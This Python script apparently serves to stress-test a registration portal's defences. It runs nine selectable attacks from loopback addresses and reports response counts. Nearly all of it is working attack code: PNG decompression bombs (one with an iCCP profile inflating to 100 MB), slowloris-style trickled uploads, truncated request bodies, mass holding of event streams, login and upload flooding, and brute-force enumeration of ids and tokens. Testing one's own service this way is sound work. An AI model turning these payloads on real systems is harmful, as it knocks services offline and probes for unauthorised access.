"""Plays an attack with at most half of one core, then prints the answers that it received, the most frequent first.

usage: attaquer.py ADDRESS ATTACK NETWORKS SECONDS
"""

import asyncio
import hashlib
import json
import struct
import sys
import time
import zlib
from collections import Counter
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
import client  # noqa: E402

PART = 0.5
reponses = Counter()


class Frein:
    """Keeps the processor time of this process under its part (`PART`) of one core."""

    def __init__(self, secondes):
        self.debut = (time.monotonic(), time.process_time())
        self.fin = self.debut[0] + secondes
        # One coroutine at a time looks at the clock, because hundreds that did so would use up the attacker's part by themselves.
        self.verrou = asyncio.Lock()

    def est_fini(self):
        return time.monotonic() >= self.fin

    async def souffler(self):
        async with self.verrou:
            await asyncio.sleep(0)
            while not self.est_fini():
                depense = time.process_time() - self.debut[1]
                if depense <= PART * (time.monotonic() - self.debut[0]):
                    return
                await asyncio.sleep(0.005)


async def ouvrir(adresse, source):
    hote, port = adresse.rsplit(":", 1)
    return await asyncio.open_connection(hote, int(port), local_addr=(source, 0))


def tete(adresse, methode, chemin, entetes, taille):
    lignes = [f"{methode} {chemin} HTTP/1.1", f"Host: {adresse}", f"Content-Length: {taille}"]
    return ("\r\n".join(lignes + [f"{n}: {v}" for n, v in entetes.items()]) + "\r\n\r\n").encode()


async def statut(lecteur, attente=60.0):
    ligne = await asyncio.wait_for(lecteur.readline(), attente)
    reponses[ligne.split(b" ")[1].decode() if ligne.startswith(b"HTTP/") else "cut"] += 1
    return ligne


async def appeler(adresse, source, methode, chemin, corps=b"", entetes=None):
    """Makes one call and counts its status, or `cut` when the connection fails."""
    try:
        lecteur, sortie = await ouvrir(adresse, source)
        sortie.write(tete(adresse, methode, chemin, {"Connection": "close"} | (entetes or {}), len(corps)) + corps)
        await statut(lecteur)
        while await lecteur.read(65536):
            pass
        sortie.close()
    except (OSError, asyncio.TimeoutError):
        reponses["cut"] += 1


async def sans_fin(frein, geste):
    """Repeats the same action until the end of the attack."""
    while not frein.est_fini():
        await frein.souffler()
        await geste()


def morceau(nom, octets):
    """A chunk of a PNG: its length, its name, its bytes and its checksum."""
    return struct.pack(">I", len(octets)) + nom + octets + struct.pack(">I", zlib.crc32(nom + octets))


def photo():
    """A picture of 39.7 million black pixels in some 120 kB: drawing it takes 119 MB."""
    cote = 6300
    ligne = b"\0" * (1 + 3 * cote)
    pixels = zlib.compressobj(9)
    lignes = b"".join(pixels.compress(ligne) for _ in range(cote)) + pixels.flush()
    ihdr = struct.pack(">IIBBBBB", cote, cote, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + morceau(b"IHDR", ihdr) + morceau(b"IDAT", lignes) + morceau(b"IEND", b"")


def image():
    """A valid picture of 4 by 4 pixels whose colour profile inflates to 100 MB."""
    profil = zlib.compressobj(9)
    profil = zlib.compressobj(9)
    zeros = b"\0" * 1_000_000
    deploye = b"".join(profil.compress(zeros) for _ in range(100)) + profil.flush()
    pixels = zlib.compress(b"".join(b"\0" + b"\xff" * 12 for _ in range(4)))
    ihdr = struct.pack(">IIBBBBB", 4, 4, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + morceau(b"IHDR", ihdr) + morceau(b"iCCP", b"p\0\0" + deploye)
        + morceau(b"IDAT", pixels) + morceau(b"IEND", b"")
    )


# These forms are made before the clock starts, so that compressing a hundred megabytes of zeros does not count in the attacker's part.
IMAGE, PDF = client.formulaire(image()), client.formulaire(client.pdf())
FORME = {"Content-Type": f"multipart/form-data; boundary={client.FRONTIERE}"}
DOCUMENT = "/api/inscription/documents?emplacement=carteProfessionnelle"


async def images(adresse, sources, frein):
    await asyncio.gather(
        *(
            sans_fin(frein, lambda s=sources[n % len(sources)]: appeler(adresse, s, "POST", DOCUMENT, IMAGE, FORME))
            for n in range(8)
        )
    )


async def depots(adresse, sources, frein):
    async def remplir(source):
        depot = await asyncio.to_thread(client.ouvrir_depot, adresse, source)
        for emplacement in ("carteProfessionnelle", "statuts", "pieceIdentite", "extraitRegistre"):
            chemin = f"/api/inscription/documents?emplacement={emplacement}"
            await appeler(adresse, source, "POST", chemin, PDF, FORME | depot)

    await asyncio.gather(*(sans_fin(frein, lambda s=s: remplir(s)) for s in sources))


async def envois(adresse, sources, frein):
    async def trainer(source):
        try:
            lecteur, sortie = await ouvrir(adresse, source)
            sortie.write(tete(adresse, "POST", DOCUMENT, FORME, 4_000_000) + PDF[:-20])
            reponse = asyncio.ensure_future(statut(lecteur))
            # Sends 9 kB a second, just above the lowest rate that the portal accepts.
            while not frein.est_fini() and not reponse.done():
                sortie.write(b" " * 4500)
                await sortie.drain()
                await asyncio.sleep(0.5)
                await frein.souffler()
            reponse.cancel()
            sortie.close()
        except OSError:
            reponses["cut"] += 1

    simultanes = max(40, 12 * len(sources))
    await asyncio.gather(*(sans_fin(frein, lambda s=sources[n % len(sources)]: trainer(s)) for n in range(simultanes)))


async def dessins(adresse, sources, frein):
    _, _, lu = client.demander(adresse, sources[0], "GET", "/api/offre/documents?type=BROCHURE&limit=200")
    adresses = [f"/api/offre/documents/{d['id']}/fichier" for d in json.loads(lu)["hydra:member"]]
    rang = iter(range(10**9))

    async def dessiner(source):
        await appeler(adresse, source, "GET", adresses[next(rang) % len(adresses)])

    await asyncio.gather(*(sans_fin(frein, lambda s=sources[n % len(sources)]: dessiner(s)) for n in range(60)))


async def corps(adresse, sources, frein):
    async def promettre(source):
        try:
            lecteur, sortie = await ouvrir(adresse, source)
            chemin = "/api/inscription/inscription/societe"
            sortie.write(tete(adresse, "POST", chemin, {"Content-Type": "application/json"}, 1000) + b"{")
            await statut(lecteur)
            sortie.close()
        except (OSError, asyncio.TimeoutError):
            reponses["cut"] += 1
        await asyncio.sleep(0.02)

    await asyncio.gather(*(sans_fin(frein, lambda s=sources[n % len(sources)]: promettre(s)) for n in range(520)))


def cookie_d_un_compte(adresse, source):
    """The cookie of the session of an attacker who has an account."""
    _, cookie = client.entrer(adresse, source, "responsable@cabinet-alpha.example")
    if not cookie:
        sys.exit("the attacker could not sign in")
    return cookie


async def flux(adresse, sources, frein):
    cookie = cookie_d_un_compte(adresse, sources[0])
    tenus = set()
    rang = iter(range(10**9))

    async def tenir(lecteur, sortie):
        """Reads a stream for as long as the portal sends it."""
        try:
            while await lecteur.read(65536):
                pass
        except OSError:
            pass
        sortie.close()

    async def suivre():
        source = sources[next(rang) % len(sources)]
        try:
            lecteur, sortie = await ouvrir(adresse, source)
            sortie.write(tete(adresse, "GET", "/api/evenements", {"Cookie": cookie}, 0))
            if b" 200 " in await statut(lecteur):
                tenu = asyncio.create_task(tenir(lecteur, sortie))
                tenus.add(tenu)
                tenu.add_done_callback(tenus.discard)
            else:
                sortie.close()
        except (OSError, asyncio.TimeoutError):
            reponses["cut"] += 1
        await asyncio.sleep(0.02)

    await asyncio.gather(*(sans_fin(frein, suivre) for _ in range(20)))
    reponses["streams held"] = len(tenus)


async def connexions(adresse, sources, frein):
    rang = iter(range(10**9))

    async def essayer(source):
        corps = json.dumps({"email": f"inconnu{next(rang)}@cabinet.example", "motDePasse": "un mot de passe"}).encode()
        await appeler(adresse, source, "POST", "/api/session", corps, {"Content-Type": "application/json"})

    await asyncio.gather(*(sans_fin(frein, lambda s=sources[n % len(sources)]: essayer(s)) for n in range(100)))


async def photos(adresse, sources, frein):
    """One account sends its photo again and again from all the networks. The same picture also goes to deposits of registrations."""
    moi = FORME | {"Cookie": cookie_d_un_compte(adresse, sources[0])}
    octets = await asyncio.to_thread(photo)
    sienne, recue = client.formulaire(octets, "photo"), client.formulaire(octets)
    # For each network, the headers of its deposit. A network opens only one deposit.
    depots_ouverts = {}

    async def deposer(source):
        if source not in depots_ouverts:
            depots_ouverts[source] = FORME | await asyncio.to_thread(client.ouvrir_depot, adresse, source)
        await appeler(adresse, source, "POST", DOCUMENT, recue, depots_ouverts[source])

    async def poser(source):
        await appeler(adresse, source, "PUT", "/api/user/me/photo", sienne, moi)

    # Sends 30 photos at once, more than an account may send in an hour, and 8 files at once, as many as the attack `images`.
    gestes = [(poser, n) for n in range(30)] + [(deposer, n) for n in range(8)]
    await asyncio.gather(*(sans_fin(frein, lambda g=g, s=sources[n % len(sources)]: g(s)) for g, n in gestes))


async def sondage(adresse, sources, frein):
    """Tries ids and tokens one after the other, signed in or not, and passwords of accounts that do not exist."""
    moi = {"Cookie": cookie_d_un_compte(adresse, sources[0])}
    json_envoye = {"Content-Type": "application/json"}
    rang = iter(range(10**9))

    async def chercher(source):
        n = next(rang)
        jeton = hashlib.sha256(str(n).encode()).hexdigest()
        inconnu = {"email": f"inconnu{n}@cabinet.example", "motDePasse": "un mot de passe"}
        active = {"jeton": jeton, "motDePasse": "un autre mot de passe 22"}
        for methode, chemin, corps, entetes in (
            ("GET", f"/api/denonciations/{10**6 + n}", None, moi),
            ("GET", f"/api/reservations/{10**6 + n}", None, moi),
            ("GET", f"/api/offre/lots/lot-{n}", None, {}),
            ("GET", f"/api/mandats-signature/{jeton}", None, {}),
            ("GET", f"/api/inscription/pieces/{jeton}", None, {}),
            ("GET", f"/api/options/calendrier/{jeton}", None, {}),
            ("GET", "/api/signature", None, {"Linteau-Jeton": jeton}),
            ("POST", "/api/activation", active, json_envoye),
            ("POST", "/api/session", inconnu, json_envoye),
        ):
            await appeler(adresse, source, methode, chemin, json.dumps(corps).encode() if corps else b"", entetes)
            await frein.souffler()

    await asyncio.gather(
        *(sans_fin(frein, lambda s=sources[n % len(sources)]: chercher(s)) for n in range(max(40, len(sources))))
    )


ATTAQUES = (images, depots, envois, dessins, corps, flux, connexions, photos, sondage)


async def main():
    adresse, attaque, reseaux, secondes = sys.argv[1:5]
    sources = [f"127.0.0.{n}" for n in range(2, 2 + int(reseaux))]
    frein = Frein(float(secondes))
    jouer = {f.__name__: f for f in ATTAQUES}[attaque]
    try:
        await asyncio.wait_for(jouer(adresse, sources, frein), float(secondes) + 5)
    except asyncio.TimeoutError:
        pass
    print(", ".join(f"{nom} × {fois}" for nom, fois in reponses.most_common()))


asyncio.run(main())
